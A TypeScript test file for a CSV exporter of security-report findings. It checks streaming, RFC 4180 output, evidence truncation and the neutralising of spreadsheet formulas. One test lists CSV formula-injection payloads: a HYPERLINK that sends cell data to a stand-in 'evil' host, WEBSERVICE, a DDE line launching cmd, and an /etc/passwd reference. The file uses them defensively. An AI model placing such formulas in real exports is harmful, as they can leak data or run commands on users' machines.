import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { emptyFinding, type ReportDocumentFinding } from '@service/report-model';
import { budgetMs, laneSize } from '@service/test-lanes';
import { CSV_COLUMNS, CSV_COLUMNS_OF_FIELD, neutralizeFormula, reportFindingsCsv } from './report-findings-csv.ts';
import { parseCsv } from './testing/parse-csv.ts';

/** The bytes as text, keeping the byte-order mark (TextDecoder drops it by default). */
async function text(stream: Readable): Promise<string> {
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await buffer(stream));
}

/** The index of a column, by its header. */
const column = (header: string) => CSV_COLUMNS.indexOf(header);

function finding(overrides: Partial<ReportDocumentFinding>): ReportDocumentFinding {
  return { ...emptyFinding('A finding', 'high'), evidence: [], ...overrides };
}

describe('reportFindingsCsv', () => {
  // 20 MB in CI, 5 MB elsewhere: either is hundreds of times the stream's buffer.
  const FINDINGS = laneSize(2000, 500);
  it(`streams each finding exactly once when the reader applies backpressure (${FINDINGS} findings of 10 KB)`, {
    timeout: budgetMs(FINDINGS, 40),
  }, async () => {
    const findings = Array.from({ length: FINDINGS }, (_, i) =>
      finding({ title: `Finding ${i}`, description: `${i} `.repeat(2500) }),
    );
    const stream = reportFindingsCsv({ findings });
    // A slow reader: one chunk per turn of the event loop, so the source is asked to pause many times.
    const chunks: Buffer[] = [];
    for await (const chunk of stream) {
      chunks.push(chunk as Buffer);
      await new Promise((resolve) => setImmediate(resolve));
    }
    const rows = parseCsv(
      new TextDecoder('utf-8', { ignoreBOM: true }).decode(Buffer.concat(chunks)).replace(/^\uFEFF/, ''),
    );
    expect(rows).toHaveLength(FINDINGS + 1);
    expect(rows.slice(1).map((r) => r[1])).toEqual(findings.map((f) => f.title));
  });

  it('writes a BOM, a header row and one row per finding in order, RFC 4180', async () => {
    const csv = await text(
      reportFindingsCsv({
        findings: [
          finding({
            id: '11111111-1111-4111-8111-111111111111',
            title: 'SQL injection, "login"',
            cves: ['CVE-2021-44228', 'CVE-2022-22965'],
            cwes: [89],
            cvss: [{ version: '3.1', vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', baseScore: 9.8 }],
          }),
          finding({
            title: 'Second',
            severity: 'low',
            description: 'line 1\nline 2',
            affectedAssets: [
              { host: 'a.example', port: 443, protocol: 'tcp', url: 'https://a.example/x' },
              { host: '10.0.0.5' },
            ],
          }),
        ],
      }),
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.includes('\r\n')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(3);
    expect(rows[1]!.slice(0, 10)).toEqual([
      '1',
      'SQL injection, "login"',
      'high',
      'open',
      '3.1',
      'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
      '9.8',
      '',
      'CVE-2021-44228\nCVE-2022-22965',
      'CWE-89',
    ]);
    expect(rows[2]![column('Hosts')]).toBe('a.example\n10.0.0.5');
    expect(rows[2]![column('Affected assets')]).toBe('a.example:443/tcp https://a.example/x\n10.0.0.5');
    expect(rows[2]![column('Description')]).toBe('line 1\nline 2');
    expect(rows[1]![column('Finding id')]).toBe('11111111-1111-4111-8111-111111111111');
  });

  it.each([
    '=HYPERLINK("http://evil")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '-x',
    "-2+3+cmd|' /C calc'!A0",
    '- see =HYPERLINK("http://evil/?"&A1)',
    '- item\n- =WEBSERVICE("http://evil")',
    "+ 'file:///etc/passwd'#$Sheet1.A1",
    '- other sheet: Sheet2!A1',
  ])('neutralises the formula %j', async (evil) => {
    expect(neutralizeFormula(evil)).toBe(`'${evil}`);
    const csv = await text(reportFindingsCsv({ findings: [finding({ title: evil, description: evil })] }));
    const rows = parseCsv(csv.slice(1));
    expect(rows[1]![1]).toBe(`'${evil}`);
    expect(rows[1]![column('Description')]).toBe(`'${evil}`);
  });

  it.each(['- item', '- first\n- second\n  - nested', '+ added in 2.0', '-5', '+3.5', '-1,234.5', '-2e3', '-12%'])(
    'leaves the list or number %j as it is',
    async (plain) => {
      expect(neutralizeFormula(plain)).toBe(plain);
      const csv = await text(reportFindingsCsv({ findings: [finding({ description: plain })] }));
      expect(parseCsv(csv.slice(1))[1]![column('Description')]).toBe(plain);
    },
  );

  it('leaves ordinary text and Unicode alone', async () => {
    const csv = await text(reportFindingsCsv({ findings: [finding({ title: 'Übersicht: مرحبا 👩‍💻' })] }));
    expect(parseCsv(csv.slice(1))[1]![1]).toBe('Übersicht: مرحبا 👩‍💻');
  });

  it('writes each asset excerpt under its location in the Evidence column, never more than a cell holds', async () => {
    const response = [
      'HTTP/1.1 200 OK',
      'Server: nginx',
      'Set-Cookie: session=abc; Path=/',
      '',
      ...Array.from({ length: 400 }, (_, i) => `<p>line ${i} of the page</p>`),
    ].join('\r\n');
    const long = `Request:\nGET / HTTP/1.1\r\nHost: a.example\r\nAccept: */*\r\n\r\n\nResponse:\n${response}`;
    const csv = await text(
      reportFindingsCsv({
        findings: [
          finding({
            title: 'Cookie without HttpOnly flag set',
            affectedAssets: [
              { host: 'a.example', port: 443, protocol: 'tcp', evidence: long },
              { host: 'b.example', evidence: 'short output' },
              { host: 'c.example', evidence: long, excerpt: 'A person wrote this excerpt.' },
              { host: 'd.example' },
            ],
          }),
          finding({
            title: 'Many assets',
            affectedAssets: Array.from({ length: 40 }, (_, i) => ({
              host: `h${i}.example`,
              evidence: long,
              excerpt: `${'x'.repeat(1900)} ${i}`,
            })),
          }),
        ],
      }),
    );
    const rows = parseCsv(csv.slice(1));
    expect(CSV_COLUMNS_OF_FIELD.affectedAssets).toEqual(['Hosts', 'Affected assets', 'Evidence']);
    const cell = rows[1]![column('Evidence')]!;
    const blocks = cell.split('\n\n');
    // The derived excerpt: the request line, Host, the cookie header of a cookie finding, what was left out.
    expect(blocks[0]).toBe(
      ['a.example:443/tcp', 'GET / HTTP/1.1', 'Host: a.example', '[… 1 header left out]'].join('\n'),
    );
    expect(cell).toContain('HTTP/1.1 200 OK\nSet-Cookie: session=abc; Path=/\n[… 1 header left out]');
    expect(cell).toContain('\n[… 400 lines left out]');
    expect(cell).not.toContain('line 399 of the page');
    expect(cell).toContain('b.example\nshort output');
    expect(cell).toContain('c.example\nA person wrote this excerpt.');
    expect(cell).not.toContain('d.example');
    const many = rows[2]![column('Evidence')]!;
    expect(many.length).toBeLessThanOrEqual(32_000);
    expect(many).toMatch(/\n\n\[… the evidence of \d+ more assets left out\]$/);
  });

  it('writes only the header for a report without findings', async () => {
    expect(parseCsv((await text(reportFindingsCsv({ findings: [] }))).slice(1))).toEqual([[...CSV_COLUMNS]]);
  });
});
